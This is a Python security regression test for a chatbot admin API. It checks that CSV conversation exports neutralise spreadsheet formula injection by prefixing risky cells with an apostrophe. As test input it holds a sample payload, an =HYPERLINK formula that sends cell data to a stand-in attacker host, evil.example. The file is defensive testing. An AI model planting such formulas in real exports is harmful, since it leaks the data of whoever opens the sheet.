"""Finding 6 (low): CSV formula injection in the conversation export. Cells starting with
`= + - @` (or a tab or carriage return) came out as they were, and a spreadsheet opening the
export runs them as formulas (=HYPERLINK can send the sheet's data away). They now start with
a `'`, which spreadsheets show as text."""

from __future__ import annotations

import csv
import io

from tests.security.customer_text import customer_conversation

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"refund")'


def test_customer_formulas_are_inert_in_the_csv_export(api):
    bot_id, _ = customer_conversation(api, question=FORMULA, comment="@SUM(1+1)", handoff="hello")
    export = api.get(f"/admin/bots/{bot_id}/export", params={"format": "csv"})
    assert export.status_code == 200, export.text
    rows = list(csv.DictReader(io.StringIO(export.text)))
    question = next(r for r in rows if r["role"] == "user")
    answer = next(r for r in rows if r["role"] == "assistant")
    assert question["content"] == "'" + FORMULA
    assert answer["feedback_comment"] == "'@SUM(1+1)"
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row

    # JSON is data, not a sheet: it keeps the text as written.
    data = api.get(f"/admin/bots/{bot_id}/export", params={"format": "json"}).json()
    assert FORMULA in str(data)
